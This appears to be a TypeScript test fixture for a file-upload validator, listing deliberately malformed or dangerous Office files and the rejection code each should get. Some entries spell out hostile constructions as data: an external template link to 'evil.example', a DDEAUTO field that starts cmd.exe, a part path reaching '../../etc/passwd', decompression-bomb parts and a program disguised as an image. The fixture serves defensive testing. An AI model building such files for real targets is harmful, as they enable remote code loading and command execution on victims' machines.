import { join, program, script, virus, type BadFile } from "./bad-file.ts";
import { docx, xlsx } from "./good-files.ts";
import { zip } from "./zip.ts";

const encryptedOffice = join(Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(2_000));
const relation = (type: string) =>
  `<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="https://evil.example/x.dotm" TargetMode="External"/>`;

export const offices: readonly BadFile[] = [
  [
    "a document with macros",
    "a.docm",
    docx({ more: [{ name: "word/vbaProject.bin", bytes: "x" }] }),
    "type-not-accepted",
  ],
  [
    "a document with macros that is called one without",
    "b.docx",
    docx({ more: [{ name: "word/vbaProject.bin", bytes: "x" }] }),
    "file-active",
  ],
  [
    "a document of the type of those with macros",
    "c.docx",
    docx({
      contentTypes: '<Override PartName="/word/vba.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    }),
    "file-active",
  ],
  [
    "a sheet with macros of the old kind",
    "d.xlsx",
    xlsx({ more: [{ name: "xl/macrosheets/sheet1.xml", bytes: "<x/>" }] }),
    "file-active",
  ],
  [
    "a document with a control that acts",
    "e.docx",
    docx({ more: [{ name: "word/activeX/activeX1.xml", bytes: "<x/>" }] }),
    "file-active",
  ],
  [
    "a document whose template is fetched from elsewhere",
    "f.docx",
    docx({ relations: relation("attachedTemplate") }),
    "file-active",
  ],
  [
    "a document with an object of another program",
    "g.docx",
    docx({ relations: relation("oleObject") }),
    "file-active",
  ],
  [
    "a sheet that reads another sheet",
    "h.xlsx",
    xlsx({ relations: relation("externalLink") }),
    "file-active",
  ],
  [
    "a document whose field starts a program",
    "i.docx",
    docx({ body: '<w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\cmd.exe</w:instrText>' }),
    "file-active",
  ],
  [
    "a document that defines entities",
    "j.docx",
    docx({ more: [{ name: "word/x.xml", bytes: '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>' }] }),
    "file-active",
  ],
  [
    "a document with a program in it",
    "k.docx",
    docx({ more: [{ name: "word/setup.exe", bytes: program }] }),
    "file-active",
  ],
  [
    "a program that is called a picture in a document",
    "l.docx",
    docx({ more: [{ name: "word/media/image1.png", bytes: program }] }),
    "file-nested",
  ],
  [
    "a document in a document",
    "m.docx",
    docx({ more: [{ name: "word/embeddings/x.docx", bytes: docx() }] }),
    "file-nested",
  ],
  [
    "an archive that is called a picture in a sheet",
    "n.xlsx",
    xlsx({ more: [{ name: "xl/media/image1.png", bytes: zip([{ name: "x", bytes: "x" }]) }] }),
    "file-nested",
  ],
  [
    "a document that unpacks a thousandfold",
    "o.docx",
    docx({ more: [{ name: "word/x.xml", bytes: Buffer.alloc(60 * 1024 * 1024) }] }),
    "file-unpacks-too-large",
  ],
  [
    "a document that claims to be small and is not",
    "p.docx",
    docx({ more: [{ name: "word/x.xml", bytes: Buffer.alloc(3_000_000), claims: 10 }] }),
    "file-damaged",
  ],
  [
    "a document of three thousand parts",
    "q.docx",
    docx({ more: Array.from({ length: 3_000 }, (_, at) => ({ name: `word/${at}.xml`, bytes: "" })) }),
    "file-unpacks-too-large",
  ],
  [
    "a document with two parts of one name",
    "r.docx",
    docx({ more: [{ name: "word/document.xml", bytes: "<x/>" }] }),
    "file-damaged",
  ],
  [
    "a document with a part that leads out of its folder",
    "s.docx",
    docx({ more: [{ name: "../../etc/passwd", bytes: "x" }] }),
    "file-damaged",
  ],
  [
    "a document with a part that needs a password",
    "t.docx",
    docx({ more: [{ name: "word/x.xml", bytes: "x", isEncrypted: true }] }),
    "file-encrypted",
  ],
  ["a document that needs a password", "u.docx", encryptedOffice, "file-encrypted"],
  ["a document that is cut in the middle", "v.docx", docx().subarray(0, 400), "file-cut"],
  ["a document with a web page behind it", "w.docx", join(docx(), script), "file-cut"],
  ["a document with words after its end", "x.docx", docx({ comment: script }), "file-mixed"],
  ["an archive that is called a document", "y.docx", zip([{ name: "x.txt", bytes: "x" }]), "type-differs"],
  ["a sheet that is called a document", "z.docx", xlsx(), "type-differs"],
  ["a virus in a sheet", "virus.xlsx", join(xlsx(), virus), "file-malware"],
];
